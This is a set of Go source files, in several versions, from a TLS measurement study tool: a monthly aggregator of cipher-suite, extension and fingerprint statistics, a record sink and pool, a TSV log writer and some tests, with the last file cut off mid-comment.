		t.Errorf("long: %+v", byFP["long"])
	}
	if byFP["short"].Days != 1 {
		t.Errorf("short: %+v", byFP["short"])
	}
}

func TestLogWriterReader(t *testing.T) {
	var buf bytes.Buffer
	lw := NewLogWriter(&buf)
	rnd := rand.New(rand.NewSource(20))
	var want []Record
	for i := 0; i < 50; i++ {
		r := sampleRecord()
		r.Date = timeline.D(2014+rnd.Intn(4), time.Month(1+rnd.Intn(12)), 1+rnd.Intn(28))
		r.Suite = []uint16{0xC02F, 0x0005, 0x002F}[rnd.Intn(3)]
		want = append(want, *r)
		if err := lw.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := lw.Flush(); err != nil {
		t.Fatal(err)
	}
	if lw.Count() != 50 {
		t.Errorf("count = %d", lw.Count())
	}
	var got []Record
	err := ReadLog(&buf, SinkFunc(func(r *Record) error {
		got = append(got, *r.Clone())
		return nil
	}))
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(want, got) {
		t.Fatal("log round trip mismatch")
	}
}

func TestReadLogBadLine(t *testing.T) {
	in := bytes.NewBufferString(Header() + "garbage line\n")
	err := ReadLog(in, SinkFunc(func(*Record) error { return nil }))
	if err == nil {
		t.Error("garbage line accepted")
	}
}

func TestClientOffers(t *testing.T) {
	r := sampleRecord()
	if !r.ClientOffers(registry.Suite.IsRC4) {
		t.Error("sample offers RC4")
	}
	if r.ClientOffers(registry.Suite.IsExport) {
		t.Error("sample offers no export")
	}
}

func TestAggregateByExtension(t *testing.T) {
	agg := NewAggregate()
	r := sampleRecord()
	agg.Add(r)
	ms := agg.Stats(timeline.M(2015, time.June))
	if ms.ByExtension[registry.ExtServerName] != 1 || ms.ByExtension[registry.ExtSupportedGroups] != 1 {
		t.Errorf("extension counters: %v", ms.ByExtension)
	}
	// GREASE extensions are stripped.
	r2 := sampleRecord()
	r2.ClientExtensions = []registry.ExtensionID{registry.ExtensionID(0x0a0a), registry.ExtALPN}
	agg.Add(r2)
	if ms.ByExtension[registry.ExtensionID(0x0a0a)] != 0 {
		t.Error("GREASE extension counted")
	}
	if ms.ByExtension[registry.ExtALPN] != 1 {
		t.Error("ALPN not counted")
	}
}
