package notary

import "sync"

// Sink consumes a stream of connection records. It is the attachment point
// of the record pipeline: the simulator, the log reader and any future
// network ingest all deliver into a Sink instead of an ad-hoc callback.
//
// Observe is called once per record, always from a single goroutine per
// sink instance. The record is only valid for the duration of the call —
// producers lease records from a shared pool and reclaim them as soon as
// Observe returns — so a sink that retains data beyond the call must copy
// it explicitly (Record.Clone, or per-field copies as Aggregate.Add does).
// Close flushes whatever the sink buffers; producers do not call it, the
// owner of the sink does.
type Sink interface {
	Observe(*Record) error
	Close() error
}

// SinkFunc adapts a function to the Sink interface with a no-op Close.
type SinkFunc func(*Record) error

// Observe invokes the function.
func (f SinkFunc) Observe(r *Record) error { return f(r) }

// Close is a no-op.
func (f SinkFunc) Close() error { return nil }

// multiSink fans every record out to several sinks in order.
type multiSink struct {
	sinks []Sink
}

// Tee returns a composite sink that delivers every record to each of the
// given sinks in order (e.g. a live Aggregate plus a LogWriter plus a
// network forwarder). Observe stops at the first sink error; Close closes
// every sink and reports the first error.
func Tee(sinks ...Sink) Sink {
	flat := make([]Sink, 0, len(sinks))
	for _, s := range sinks {
		if m, ok := s.(*multiSink); ok {
			flat = append(flat, m.sinks...)
			continue
		}
		flat = append(flat, s)
	}
	if len(flat) == 1 {
		return flat[0]
	}
	return &multiSink{sinks: flat}
}

// Observe delivers r to every sink, stopping at the first error.
func (m *multiSink) Observe(r *Record) error {
	for _, s := range m.sinks {
		if err := s.Observe(r); err != nil {
			return err
		}
	}
	return nil
}

// Close closes every sink, returning the first error.
func (m *multiSink) Close() error {
	var first error
	for _, s := range m.sinks {
		if err := s.Close(); err != nil && first == nil {
			first = err
		}
	}
	return first
}

// recordPool recycles Records (and the five client-side slices each one
// carries) across connections. At study scale the simulator emits millions
// of records whose allocations otherwise dominate the profile.
var recordPool = sync.Pool{New: func() any { return new(Record) }}

// LeaseRecord returns a clean Record from the shared pool. The caller owns
// it until it hands it to ReleaseRecord; the five client-side slices keep
// their capacity across the pool round-trip, so a leased record is filled
// without fresh slice allocations in steady state.
func LeaseRecord() *Record {
	return recordPool.Get().(*Record)
}

// ReleaseRecord resets r and returns it to the pool. The caller must not
// touch r afterwards. Releasing nil is a no-op.
func ReleaseRecord(r *Record) {
	if r == nil {
		return
	}
	r.Reset()
	recordPool.Put(r)
}
