package notary

import (
	"sort"
	"time"

	"tlsage/internal/registry"
	"tlsage/internal/timeline"
)

func timeMonth(m int) time.Month { return time.Month(m) }

// MonthStats accumulates everything the paper's figures need for one
// calendar month. All percentage series in the figure renderers derive from
// these counters.
type MonthStats struct {
	Month timeline.Month

	Total       int
	Established int

	// Negotiated parameters (established connections only).
	ByVersion map[registry.Version]int // canonical versions
	ByClass   map[string]int           // AEAD / CBC / RC4 / other
	ByKex     map[registry.KeyExchange]int
	BySuite   map[uint16]int
	ByCurve   map[registry.CurveID]int

	// Client advertisement counters (all observed hellos).
	AdvRC4, AdvDES, Adv3DES, AdvAEAD  int
	AdvExport, AdvAnon, AdvNULL       int
	AdvAESGCM128, AdvAESGCM256        int
	AdvChaCha, AdvCCM                 int
	AdvTLS13                          int
	TLS13Variant                      map[registry.Version]int
	OffersHeartbeatN, HeartbeatAckN   int
	NULLNegotiated, AnonNegotiated    int
	ExportNegotiated, UnofferedChoice int
	SSLv2Hellos                       int

	// Position sums for Figure 5: relative position (0..1) of the first
	// suite of each class in client lists, summed; denominators per class.
	PosSum   map[string]float64
	PosCount map[string]int

	// ByExtension counts connections advertising each extension (GREASE
	// stripped) — the §9 deployment-tracking data (renegotiation_info,
	// encrypt_then_mac, ...).
	ByExtension map[registry.ExtensionID]int

	// Distinct fingerprints and their capability flags (Figure 4).
	FPs map[string]*FPCaps

	// Connections per fingerprint (§4 attribution). Unlike FPs (distinct
	// fingerprints + capabilities), this is the per-month volume counter the
	// fp: query family reads.
	ByFingerprint map[string]int

	// Connections per attributed client class (Table 2), keyed by the
	// clientdb class name. Only filled when the owning aggregate has a
	// Classifier; unattributed fingerprints count nowhere.
	ByClientClass map[string]int
}

// FPCaps records the suite classes a fingerprint's cipher list contains.
type FPCaps struct {
	RC4, DES, TDES, AEAD, NULLc, Anon, Export bool
	Count                                     int
}

// newMonthStats allocates the counter maps.
func newMonthStats(m timeline.Month) *MonthStats {
	return &MonthStats{
		Month:         m,
		ByVersion:     make(map[registry.Version]int),
		ByClass:       make(map[string]int),
		ByKex:         make(map[registry.KeyExchange]int),
		BySuite:       make(map[uint16]int),
		ByCurve:       make(map[registry.CurveID]int),
		TLS13Variant:  make(map[registry.Version]int),
		ByExtension:   make(map[registry.ExtensionID]int),
		PosSum:        make(map[string]float64),
		PosCount:      make(map[string]int),
		FPs:           make(map[string]*FPCaps),
		ByFingerprint: make(map[string]int),
		ByClientClass: make(map[string]int),
	}
}

// Pct returns 100·n/Total, 0 for empty months.
func (ms *MonthStats) Pct(n int) float64 {
	if ms.Total == 0 {
		return 0
	}
	return 100 * float64(n) / float64(ms.Total)
}

// PctEstablished returns 100·n/Established.
func (ms *MonthStats) PctEstablished(n int) float64 {
	if ms.Established == 0 {
		return 0
	}
	return 100 * float64(n) / float64(ms.Established)
}

// Classifier attributes a fingerprint to a client class (Table 2). It is an
// interface — not a concrete DB — because internal/fingerprint already
// imports notary; the fingerprint.DB satisfies it from the other side of the
// dependency edge.
//
// The method must be pure with respect to aggregate content: two aggregates
// built from the same records under the same classifier must be equal, so
// Merge never re-classifies.
type Classifier interface {
	// ClassOf returns the client-class name for a fingerprint string, or
	// ok=false when the fingerprint is not in the database.
	ClassOf(fp string) (class string, ok bool)
}

// Aggregate is a streaming monthly aggregator: feed it Records in any order
// and read per-month statistics back.
type Aggregate struct {
	months map[timeline.Month]*MonthStats
	// FP lifetime tracking for §4.1.
	fpFirst, fpLast map[string]timeline.Date
	fpConns         map[string]int64
	// classifier attributes fingerprints to client classes at Add time. It
	// is configuration, not content: Merge ignores the donor's classifier,
	// and equality of aggregate *content* is unaffected by it (ByClientClass
	// counters are content; the classifier that produced them is not
	// serialized).
	classifier Classifier
	// generation counts ingested records: Add increments it and Merge folds
	// the donor's count in. Snapshot consumers compare it to detect
	// staleness without hashing the maps; because it tracks content rather
	// than call counts, aggregates with equal content built by any sharding
	// of the same stream also have equal generations (the merge property
	// tests rely on that).
	generation uint64
}

// NewAggregate returns an empty aggregator.
func NewAggregate() *Aggregate {
	return &Aggregate{
		months:  make(map[timeline.Month]*MonthStats),
		fpFirst: make(map[string]timeline.Date),
		fpLast:  make(map[string]timeline.Date),
		fpConns: make(map[string]int64),
	}
}

// SetClassifier installs (or clears, with nil) the fingerprint→class
// attribution used by Add. Install it before ingesting: records added while
// no classifier is set are never re-attributed.
func (a *Aggregate) SetClassifier(c Classifier) { a.classifier = c }

// Classifier returns the installed classifier, nil when attribution is off.
func (a *Aggregate) Classifier() Classifier { return a.classifier }

// Observe ingests one record, making *Aggregate a Sink. Add copies
// everything it keeps (counters, strings, dates — never slices), so pooled
// records may be reclaimed as soon as the call returns.
func (a *Aggregate) Observe(r *Record) error {
	a.Add(r)
	return nil
}

// Close is a no-op: an aggregate buffers nothing.
func (a *Aggregate) Close() error { return nil }

// Add ingests one record.
func (a *Aggregate) Add(r *Record) {
	a.generation++
	m := timeline.MonthOf(r.Date)
	ms, ok := a.months[m]
	if !ok {
		ms = newMonthStats(m)
		a.months[m] = ms
	}
	ms.Total++
	if r.SSLv2Hello {
		ms.SSLv2Hellos++
	}

	// Advertisement counters, GREASE-stripped. One dense-table pass over the
	// list replaces the ~15 predicate rescans this block used to make.
	suites := registry.StripGREASE16(r.ClientSuites)
	scan := registry.ScanSuites(suites)
	if scan.Bits.Has(registry.ClassRC4) {
		ms.AdvRC4++
	}
	if scan.Bits.Has(registry.ClassDES) {
		ms.AdvDES++
	}
	if scan.Bits.Has(registry.Class3DES) {
		ms.Adv3DES++
	}
	if scan.Bits.Has(registry.ClassAEAD) {
		ms.AdvAEAD++
	}
	if scan.Bits.Has(registry.ClassExport) {
		ms.AdvExport++
	}
	if scan.Bits.Has(registry.ClassAnon) {
		ms.AdvAnon++
	}
	if scan.Bits.Has(registry.ClassNULL) {
		ms.AdvNULL++
	}
	if scan.Bits.Has(registry.ClassGCM128) {
		ms.AdvAESGCM128++
	}
	if scan.Bits.Has(registry.ClassGCM256) {
		ms.AdvAESGCM256++
	}
	if scan.Bits.Has(registry.ClassChaCha) {
		ms.AdvChaCha++
	}
	if scan.Bits.Has(registry.ClassCCM) {
		ms.AdvCCM++
	}
	if r.SupportsTLS13() {
		ms.AdvTLS13++
		if v := r.AdvertisedTLS13Variant(); v != 0 {
			ms.TLS13Variant[v]++
		}
	}
	if r.OffersHeartbeat {
		ms.OffersHeartbeatN++
	}
	for _, e := range registry.StripGREASEExt(r.ClientExtensions) {
		ms.ByExtension[e]++
	}

	// Figure 5 positions, from the first-index side of the same pass.
	if n := len(suites); n > 1 {
		for _, pc := range positionClasses {
			if idx := scan.FirstIndex(pc.bit); idx >= 0 {
				ms.PosSum[pc.name] += float64(idx) / float64(n-1)
				ms.PosCount[pc.name]++
			}
		}
	}

	// Fingerprint capabilities.
	if r.Fingerprint != "" {
		caps, ok := ms.FPs[r.Fingerprint]
		if !ok {
			caps = &FPCaps{
				RC4:    scan.Bits.Has(registry.ClassRC4),
				DES:    scan.Bits.Has(registry.ClassDES),
				TDES:   scan.Bits.Has(registry.Class3DES),
				AEAD:   scan.Bits.Has(registry.ClassAEAD),
				NULLc:  scan.Bits.Has(registry.ClassNULL),
				Anon:   scan.Bits.Has(registry.ClassAnon),
				Export: scan.Bits.Has(registry.ClassExport),
			}
			ms.FPs[r.Fingerprint] = caps
		}
		caps.Count++
		if _, seen := a.fpFirst[r.Fingerprint]; !seen {
			a.fpFirst[r.Fingerprint] = r.Date
			a.fpLast[r.Fingerprint] = r.Date
		} else {
			if r.Date.After(a.fpLast[r.Fingerprint]) {
				a.fpLast[r.Fingerprint] = r.Date
			}
			if a.fpFirst[r.Fingerprint].After(r.Date) {
				a.fpFirst[r.Fingerprint] = r.Date
			}
		}
		a.fpConns[r.Fingerprint]++
		ms.ByFingerprint[r.Fingerprint]++
		if a.classifier != nil {
			if class, ok := a.classifier.ClassOf(r.Fingerprint); ok {
				ms.ByClientClass[class]++
			}
		}
	}

	// Negotiated side.
	if !r.Established {
		return
	}
	ms.Established++
	ms.ByVersion[r.Version.Canonical()]++
	if s, ok := registry.SuiteByID(r.Suite); ok {
		ms.ByClass[s.TrafficClass()]++
		ms.ByKex[s.Kex]++
		ms.BySuite[r.Suite]++
		if s.IsNULLCipher() {
			ms.NULLNegotiated++
		}
		if s.IsAnon() {
			ms.AnonNegotiated++
		}
		if s.IsExport() {
			ms.ExportNegotiated++
		}
	}
	if r.Curve != 0 {
		ms.ByCurve[r.Curve]++
	}
	if r.HeartbeatAck {
		ms.HeartbeatAckN++
	}
	if r.SuiteUnoffer {
		ms.UnofferedChoice++
	}
}

// positionClasses are the Figure 5 suite classes.
var positionClasses = []struct {
	name string
	bit  registry.ClassBits
}{
	{"AEAD", registry.ClassAEAD},
	{"CBC", registry.ClassCBC},
	{"RC4", registry.ClassRC4},
	{"DES", registry.ClassDES},
	{"3DES", registry.Class3DES},
}

// merge folds o's counters into ms. Both must describe the same month.
func (ms *MonthStats) merge(o *MonthStats) {
	ms.Total += o.Total
	ms.Established += o.Established
	for k, v := range o.ByVersion {
		ms.ByVersion[k] += v
	}
	for k, v := range o.ByClass {
		ms.ByClass[k] += v
	}
	for k, v := range o.ByKex {
		ms.ByKex[k] += v
	}
	for k, v := range o.BySuite {
		ms.BySuite[k] += v
	}
	for k, v := range o.ByCurve {
		ms.ByCurve[k] += v
	}
	ms.AdvRC4 += o.AdvRC4
	ms.AdvDES += o.AdvDES
	ms.Adv3DES += o.Adv3DES
	ms.AdvAEAD += o.AdvAEAD
	ms.AdvExport += o.AdvExport
	ms.AdvAnon += o.AdvAnon
	ms.AdvNULL += o.AdvNULL
	ms.AdvAESGCM128 += o.AdvAESGCM128
	ms.AdvAESGCM256 += o.AdvAESGCM256
	ms.AdvChaCha += o.AdvChaCha
	ms.AdvCCM += o.AdvCCM
	ms.AdvTLS13 += o.AdvTLS13
	for k, v := range o.TLS13Variant {
		ms.TLS13Variant[k] += v
	}
	for k, v := range o.ByExtension {
		ms.ByExtension[k] += v
	}
	ms.OffersHeartbeatN += o.OffersHeartbeatN
	ms.HeartbeatAckN += o.HeartbeatAckN
	ms.NULLNegotiated += o.NULLNegotiated
	ms.AnonNegotiated += o.AnonNegotiated
	ms.ExportNegotiated += o.ExportNegotiated
	ms.UnofferedChoice += o.UnofferedChoice
	ms.SSLv2Hellos += o.SSLv2Hellos
	for k, v := range o.PosSum {
		ms.PosSum[k] += v
	}
	for k, v := range o.PosCount {
		ms.PosCount[k] += v
	}
	for k, v := range o.ByFingerprint {
		ms.ByFingerprint[k] += v
	}
	for k, v := range o.ByClientClass {
		ms.ByClientClass[k] += v
	}
	for fp, oc := range o.FPs {
		c, ok := ms.FPs[fp]
		if !ok {
			cp := *oc
			ms.FPs[fp] = &cp
			continue
		}
		c.Count += oc.Count
		// A fingerprint hashes the cipher list, so capability flags agree
		// across shards; OR keeps merge closed under hand-built inputs.
		c.RC4 = c.RC4 || oc.RC4
		c.DES = c.DES || oc.DES
		c.TDES = c.TDES || oc.TDES
		c.AEAD = c.AEAD || oc.AEAD
		c.NULLc = c.NULLc || oc.NULLc
		c.Anon = c.Anon || oc.Anon
		c.Export = c.Export || oc.Export
	}
}

// Merge folds other into a, so that merging aggregates built from any
// partition of a record stream yields the same content as feeding the whole
// stream to one Aggregate. It is the combine step of the sharded simulation
// pipeline. other is not modified, but the receiving aggregate deep-copies
// everything it keeps, so other may be discarded or reused freely.
func (a *Aggregate) Merge(other *Aggregate) {
	a.generation += other.generation
	for m, oms := range other.months {
		ms, ok := a.months[m]
		if !ok {
			ms = newMonthStats(m)
			a.months[m] = ms
		}
		ms.merge(oms)
	}
	for fp, first := range other.fpFirst {
		if cur, seen := a.fpFirst[fp]; !seen || cur.After(first) {
			a.fpFirst[fp] = first
		}
	}
	for fp, last := range other.fpLast {
		if cur, seen := a.fpLast[fp]; !seen || last.After(cur) {
			a.fpLast[fp] = last
		}
	}
	for fp, n := range other.fpConns {
		a.fpConns[fp] += n
	}
}

// Months returns the observed months in chronological order.
func (a *Aggregate) Months() []timeline.Month {
	out := make([]timeline.Month, 0, len(a.months))
	for m := range a.months {
		out = append(out, m)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Before(out[j]) })
	return out
}

// Stats returns the stats for month m, or nil when unobserved.
func (a *Aggregate) Stats(m timeline.Month) *MonthStats { return a.months[m] }

// NumMonths returns the number of observed months.
func (a *Aggregate) NumMonths() int { return len(a.months) }

// Generation returns a counter that changes whenever records are ingested
// (directly via Add or folded in via Merge). A snapshot built from the
// aggregate can record the generation it saw and later detect that the
// aggregate has moved on — the cheap staleness check the columnar analysis
// frame and any future live-service mode rely on.
func (a *Aggregate) Generation() uint64 { return a.generation }

// EachMonth calls fn once per observed month in chronological order. It is
// the snapshot-iteration API: a consumer can materialise every counter in
// one pass without touching the aggregate's internal month map.
func (a *Aggregate) EachMonth(fn func(*MonthStats)) {
	for _, m := range a.Months() {
		fn(a.months[m])
	}
}

// UpdateMonth applies fn to month m's stats, creating the month if it was
// never observed, and advances the generation by records — the number of
// underlying observations fn represents. It exists for studies whose data
// arrives pre-aggregated (active scan campaigns report per-date summary
// counters, not individual records) so they can populate an Aggregate and
// ride the same Frame/query machinery as record streams.
func (a *Aggregate) UpdateMonth(m timeline.Month, records uint64, fn func(*MonthStats)) {
	ms, ok := a.months[m]
	if !ok {
		ms = newMonthStats(m)
		a.months[m] = ms
	}
	fn(ms)
	a.generation += records
}

// TotalRecords sums Total over all months.
func (a *Aggregate) TotalRecords() int {
	n := 0
	for _, ms := range a.months {
		n += ms.Total
	}
	return n
}

// FPDuration describes one fingerprint's observed lifetime (§4.1).
type FPDuration struct {
	Fingerprint string
	First, Last timeline.Date
	Days        int // inclusive duration: 1 for a single-day fingerprint
	Connections int64
}

// FPDurations returns lifetime stats for every fingerprint seen.
func (a *Aggregate) FPDurations() []FPDuration {
	out := make([]FPDuration, 0, len(a.fpFirst))
	for fp, first := range a.fpFirst {
		last := a.fpLast[fp]
		out = append(out, FPDuration{
			Fingerprint: fp,
			First:       first,
			Last:        last,
			Days:        last.DaysSince(first) + 1,
			Connections: a.fpConns[fp],
		})
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Fingerprint < out[j].Fingerprint })
	return out
}
