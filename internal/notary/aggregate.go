package notary

import (
	"sort"
	"time"

	"tlsage/internal/registry"
	"tlsage/internal/timeline"
)

func timeMonth(m int) time.Month { return time.Month(m) }

// MonthStats accumulates everything the paper's figures need for one
// calendar month. All percentage series in the figure renderers derive from
// these counters.
type MonthStats struct {
	Month timeline.Month

	Total       int
	Established int

	// Negotiated parameters (established connections only).
	ByVersion map[registry.Version]int // canonical versions
	ByClass   map[string]int           // AEAD / CBC / RC4 / other
	ByKex     map[registry.KeyExchange]int
	BySuite   map[uint16]int
	ByCurve   map[registry.CurveID]int

	// Client advertisement counters (all observed hellos).
	AdvRC4, AdvDES, Adv3DES, AdvAEAD  int
	AdvExport, AdvAnon, AdvNULL       int
	AdvAESGCM128, AdvAESGCM256        int
	AdvChaCha, AdvCCM                 int
	AdvTLS13                          int
	TLS13Variant                      map[registry.Version]int
	OffersHeartbeatN, HeartbeatAckN   int
	NULLNegotiated, AnonNegotiated    int
	ExportNegotiated, UnofferedChoice int
	SSLv2Hellos                       int

	// Position sums for Figure 5: relative position (0..1) of the first
	// suite of each class in client lists, summed; denominators per class.
	PosSum   map[string]float64
	PosCount map[string]int

	// ByExtension counts connections advertising each extension (GREASE
	// stripped) — the §9 deployment-tracking data (renegotiation_info,
	// encrypt_then_mac, ...).
	ByExtension map[registry.ExtensionID]int

	// Distinct fingerprints and their capability flags (Figure 4).
	FPs map[string]*FPCaps
}

// FPCaps records the suite classes a fingerprint's cipher list contains.
type FPCaps struct {
	RC4, DES, TDES, AEAD, NULLc, Anon, Export bool
	Count                                     int
}

// newMonthStats allocates the counter maps.
func newMonthStats(m timeline.Month) *MonthStats {
	return &MonthStats{
		Month:        m,
		ByVersion:    make(map[registry.Version]int),
		ByClass:      make(map[string]int),
		ByKex:        make(map[registry.KeyExchange]int),
		BySuite:      make(map[uint16]int),
		ByCurve:      make(map[registry.CurveID]int),
		TLS13Variant: make(map[registry.Version]int),
		ByExtension:  make(map[registry.ExtensionID]int),
		PosSum:       make(map[string]float64),
		PosCount:     make(map[string]int),
		FPs:          make(map[string]*FPCaps),
	}
}

// Pct returns 100·n/Total, 0 for empty months.
func (ms *MonthStats) Pct(n int) float64 {
	if ms.Total == 0 {
		return 0
	}
	return 100 * float64(n) / float64(ms.Total)
}

// PctEstablished returns 100·n/Established.
func (ms *MonthStats) PctEstablished(n int) float64 {
	if ms.Established == 0 {
		return 0
	}
	return 100 * float64(n) / float64(ms.Established)
}

// Aggregate is a streaming monthly aggregator: feed it Records in any order
// and read per-month statistics back.
type Aggregate struct {
	months map[timeline.Month]*MonthStats
	// FP lifetime tracking for §4.1.
	fpFirst, fpLast map[string]timeline.Date
	fpConns         map[string]int64
}

// NewAggregate returns an empty aggregator.
func NewAggregate() *Aggregate {
	return &Aggregate{
		months:  make(map[timeline.Month]*MonthStats),
		fpFirst: make(map[string]timeline.Date),
		fpLast:  make(map[string]timeline.Date),
		fpConns: make(map[string]int64),
	}
}

// Add ingests one record.
func (a *Aggregate) Add(r *Record) {
	m := timeline.MonthOf(r.Date)
	ms, ok := a.months[m]
	if !ok {
		ms = newMonthStats(m)
		a.months[m] = ms
	}
	ms.Total++
	if r.SSLv2Hello {
		ms.SSLv2Hellos++
	}

	// Advertisement counters, GREASE-stripped.
	suites := registry.StripGREASE16(r.ClientSuites)
	adv := func(pred func(registry.Suite) bool) bool { return registry.ListHas(suites, pred) }
	if adv(registry.Suite.IsRC4) {
		ms.AdvRC4++
	}
	if adv(registry.Suite.IsDES) {
		ms.AdvDES++
	}
	if adv(registry.Suite.Is3DES) {
		ms.Adv3DES++
	}
	if adv(registry.Suite.IsAEAD) {
		ms.AdvAEAD++
	}
	if adv(registry.Suite.IsExport) {
		ms.AdvExport++
	}
	if adv(registry.Suite.IsAnon) {
		ms.AdvAnon++
	}
	if adv(registry.Suite.IsNULLCipher) {
		ms.AdvNULL++
	}
	if adv(func(s registry.Suite) bool { return s.Mode == registry.ModeGCM && s.Cipher == registry.CipherAES128 }) {
		ms.AdvAESGCM128++
	}
	if adv(func(s registry.Suite) bool { return s.Mode == registry.ModeGCM && s.Cipher == registry.CipherAES256 }) {
		ms.AdvAESGCM256++
	}
	if adv(func(s registry.Suite) bool { return s.Cipher == registry.CipherChaCha20 }) {
		ms.AdvChaCha++
	}
	if adv(func(s registry.Suite) bool { return s.Mode == registry.ModeCCM || s.Mode == registry.ModeCCM8 }) {
		ms.AdvCCM++
	}
	if r.SupportsTLS13() {
		ms.AdvTLS13++
		if v := r.AdvertisedTLS13Variant(); v != 0 {
			ms.TLS13Variant[v]++
		}
	}
	if r.OffersHeartbeat {
		ms.OffersHeartbeatN++
	}
	for _, e := range registry.StripGREASEExt(r.ClientExtensions) {
		ms.ByExtension[e]++
	}

	// Figure 5 positions.
	if n := len(suites); n > 1 {
		for class, pred := range positionClasses {
			if idx := registry.FirstIndexWhere(suites, pred); idx >= 0 {
				ms.PosSum[class] += float64(idx) / float64(n-1)
				ms.PosCount[class]++
			}
		}
	}

	// Fingerprint capabilities.
	if r.Fingerprint != "" {
		caps, ok := ms.FPs[r.Fingerprint]
		if !ok {
			caps = &FPCaps{
				RC4:    adv(registry.Suite.IsRC4),
				DES:    adv(registry.Suite.IsDES),
				TDES:   adv(registry.Suite.Is3DES),
				AEAD:   adv(registry.Suite.IsAEAD),
				NULLc:  adv(registry.Suite.IsNULLCipher),
				Anon:   adv(registry.Suite.IsAnon),
				Export: adv(registry.Suite.IsExport),
			}
			ms.FPs[r.Fingerprint] = caps
		}
		caps.Count++
		if _, seen := a.fpFirst[r.Fingerprint]; !seen {
			a.fpFirst[r.Fingerprint] = r.Date
			a.fpLast[r.Fingerprint] = r.Date
		} else {
			if r.Date.After(a.fpLast[r.Fingerprint]) {
				a.fpLast[r.Fingerprint] = r.Date
			}
			if a.fpFirst[r.Fingerprint].After(r.Date) {
				a.fpFirst[r.Fingerprint] = r.Date
			}
		}
		a.fpConns[r.Fingerprint]++
	}

	// Negotiated side.
	if !r.Established {
		return
	}
	ms.Established++
	ms.ByVersion[r.Version.Canonical()]++
	if s, ok := registry.SuiteByID(r.Suite); ok {
		ms.ByClass[s.TrafficClass()]++
		ms.ByKex[s.Kex]++
		ms.BySuite[r.Suite]++
		if s.IsNULLCipher() {
			ms.NULLNegotiated++
		}
		if s.IsAnon() {
			ms.AnonNegotiated++
		}
		if s.IsExport() {
			ms.ExportNegotiated++
		}
	}
	if r.Curve != 0 {
		ms.ByCurve[r.Curve]++
	}
	if r.HeartbeatAck {
		ms.HeartbeatAckN++
	}
	if r.SuiteUnoffer {
		ms.UnofferedChoice++
	}
}

// positionClasses are the Figure 5 suite classes.
var positionClasses = map[string]func(registry.Suite) bool{
	"AEAD": registry.Suite.IsAEAD,
	"CBC":  registry.Suite.IsCBC,
	"RC4":  registry.Suite.IsRC4,
	"DES":  registry.Suite.IsDES,
	"3DES": registry.Suite.Is3DES,
}

// Months returns the observed months in chronological order.
func (a *Aggregate) Months() []timeline.Month {
	out := make([]timeline.Month, 0, len(a.months))
	for m := range a.months {
		out = append(out, m)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Before(out[j]) })
	return out
}

// Stats returns the stats for month m, or nil when unobserved.
func (a *Aggregate) Stats(m timeline.Month) *MonthStats { return a.months[m] }

// TotalRecords sums Total over all months.
func (a *Aggregate) TotalRecords() int {
	n := 0
	for _, ms := range a.months {
		n += ms.Total
	}
	return n
}

// FPDuration describes one fingerprint's observed lifetime (§4.1).
type FPDuration struct {
	Fingerprint string
	First, Last timeline.Date
	Days        int // inclusive duration: 1 for a single-day fingerprint
	Connections int64
}

// FPDurations returns lifetime stats for every fingerprint seen.
func (a *Aggregate) FPDurations() []FPDuration {
	out := make([]FPDuration, 0, len(a.fpFirst))
	for fp, first := range a.fpFirst {
		last := a.fpLast[fp]
		out = append(out, FPDuration{
			Fingerprint: fp,
			First:       first,
			Last:        last,
			Days:        last.DaysSince(first) + 1,
			Connections: a.fpConns[fp],
		})
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Fingerprint < out[j].Fingerprint })
	return out
}
