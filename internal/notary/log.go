package notary

import (
	"bufio"
	"fmt"
	"io"
	"strings"
)

// LogWriter streams records to a Bro-style TSV log.
type LogWriter struct {
	w       *bufio.Writer
	wroteHd bool
	n       int64
}

// NewLogWriter wraps w.
func NewLogWriter(w io.Writer) *LogWriter {
	return &LogWriter{w: bufio.NewWriterSize(w, 1<<16)}
}

// Write appends one record (emitting the header first).
func (lw *LogWriter) Write(r *Record) error {
	if !lw.wroteHd {
		if _, err := lw.w.WriteString(Header()); err != nil {
			return err
		}
		lw.wroteHd = true
	}
	line := r.AppendTSV(nil)
	if _, err := lw.w.Write(line); err != nil {
		return err
	}
	lw.n++
	return nil
}

// Count reports how many records have been written.
func (lw *LogWriter) Count() int64 { return lw.n }

// Flush flushes the underlying buffer.
func (lw *LogWriter) Flush() error { return lw.w.Flush() }

// ReadLog parses a log written by LogWriter, invoking fn per record.
// Comment lines (#...) are skipped. Parsing stops at the first error.
func ReadLog(r io.Reader, fn func(Record) error) error {
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 0, 1<<16), 1<<22)
	lineNo := 0
	for sc.Scan() {
		lineNo++
		line := sc.Text()
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		rec, err := ParseTSV(line)
		if err != nil {
			return fmt.Errorf("notary: line %d: %w", lineNo, err)
		}
		if err := fn(rec); err != nil {
			return err
		}
	}
	return sc.Err()
}
