package notary

import (
	"bufio"
	"bytes"
	"fmt"
	"io"
	"runtime"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
)

// LogWriter streams records to a Bro-style TSV log. It implements Sink:
// Observe appends one line, Close flushes. The line buffer is reused across
// records, so writing is allocation-free in steady state.
type LogWriter struct {
	w       *bufio.Writer
	buf     []byte
	wroteHd bool
	n       int64
}

// NewLogWriter wraps w.
func NewLogWriter(w io.Writer) *LogWriter {
	return &LogWriter{w: bufio.NewWriterSize(w, 1<<16)}
}

// Write appends one record (emitting the header first).
func (lw *LogWriter) Write(r *Record) error {
	if !lw.wroteHd {
		if _, err := lw.w.WriteString(Header()); err != nil {
			return err
		}
		lw.wroteHd = true
	}
	lw.buf = r.AppendTSV(lw.buf[:0])
	if _, err := lw.w.Write(lw.buf); err != nil {
		return err
	}
	lw.n++
	return nil
}

// Observe implements Sink.
func (lw *LogWriter) Observe(r *Record) error { return lw.Write(r) }

// Close implements Sink by flushing the underlying buffer.
func (lw *LogWriter) Close() error { return lw.Flush() }

// Count reports how many records have been written.
func (lw *LogWriter) Count() int64 { return lw.n }

// Flush flushes the underlying buffer.
func (lw *LogWriter) Flush() error { return lw.w.Flush() }

// logBasePrefix starts a base directive: a comment line recording the
// absolute generation the log resumes at. A log that is truncated after its
// records were compacted into a snapshot no longer starts at generation
// zero, so without the directive a later recovery would misalign the
// snapshot's record count against the log's line count.
const logBasePrefix = "#base "

// LogBaseDirective returns the comment line declaring that the next record
